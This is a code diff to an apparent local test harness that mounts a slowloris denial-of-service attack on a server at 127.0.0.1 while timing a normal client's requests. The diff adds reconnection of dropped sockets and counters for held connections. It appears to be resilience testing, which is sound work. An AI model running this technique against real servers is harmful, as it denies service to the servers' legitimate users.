@@ -24,6 +24,8 @@ class SlowlorisResult:
     held_at_end: int = 0            # still open when the attack stopped
     request_latencies: list[float] = field(default_factory=list)   # the normal client's, seconds
     request_failures: int = 0
+    connect_failures: int = 0       # connects that timed out or failed (a full accept backlog)
+    held_samples: list[int] = field(default_factory=list)   # connections open at each drip
 
 
 def normal_request(url: str, token: str, timeout: float, context: ssl.SSLContext | None = None) -> float | None:
@@ -38,29 +40,45 @@ def normal_request(url: str, token: str, timeout: float, context: ssl.SSLContext
         return None
 
 
+def _open(source: str, port: int, timeout: float) -> socket.socket | None:
+    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    sock.bind((source, 0))
+    sock.settimeout(timeout)
+    try:
+        sock.connect(("127.0.0.1", port))
+    except OSError:
+        sock.close()
+        return None
+    sock.setblocking(False)
+    return sock
+
+
 def attack(port: int, connections: int, seconds: float, *, source: str = "127.0.0.2",
            interval: float = 1.0, probe_url: str = "", token: str = "", probe_every: float = 1.0,
-           probe_timeout: float = 5.0) -> SlowlorisResult:
+           probe_timeout: float = 5.0, reconnect: bool = False, connect_timeout: float = 2.0) -> SlowlorisResult:
     """Open ``connections`` sockets from ``source`` to 127.0.0.1:``port`` and drip one header byte
-    per ``interval`` on each for ``seconds``; every ``probe_every`` s make a normal request to
+    per ``interval`` on each for ``seconds`` (``reconnect``: reopen closed or refused ones at the
+    next drip, as a real slowloris does); every ``probe_every`` s make a normal request to
     ``probe_url`` (from 127.0.0.1) and record its latency."""
     result = SlowlorisResult()
     sel = selectors.DefaultSelector()
     sent: dict[socket.socket, int] = {}
     start = time.monotonic()
-    for _ in range(connections):
-        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
-        sock.bind((source, 0))
-        sock.settimeout(2.0)
-        try:
-            sock.connect(("127.0.0.1", port))
-        except OSError:
-            sock.close()
-            continue
-        sock.setblocking(False)
-        result.opened += 1
-        sel.register(sock, selectors.EVENT_READ)
-        sent[sock] = 0
+    missing = connections
+
+    def refill() -> None:
+        nonlocal missing
+        while missing and time.monotonic() < start + seconds:
+            sock = _open(source, port, connect_timeout)
+            missing -= 1
+            if sock is None:
+                result.connect_failures += 1
+                continue
+            result.opened += 1
+            sel.register(sock, selectors.EVENT_READ)
+            sent[sock] = 0
+
+    refill()
     next_drip = next_probe = time.monotonic()
     end = start + seconds
     while time.monotonic() < end:
@@ -81,6 +99,8 @@ def attack(port: int, connections: int, seconds: float, *, source: str = "127.0.
             sel.unregister(sock)
             sock.close()
             del sent[sock]
+            if reconnect:
+                missing += 1
         now = time.monotonic()
         if now >= next_drip:
             for sock in list(sent):
@@ -89,6 +109,8 @@ def attack(port: int, connections: int, seconds: float, *, source: str = "127.0.
                     sent[sock] += 1
                 except OSError:
                     pass        # the reader above sees the close
+            result.held_samples.append(sum(1 for n in sent.values() if n))
+            refill()
             next_drip = now + interval
         if probe_url and now >= next_probe:
             latency = normal_request(probe_url, token, probe_timeout)
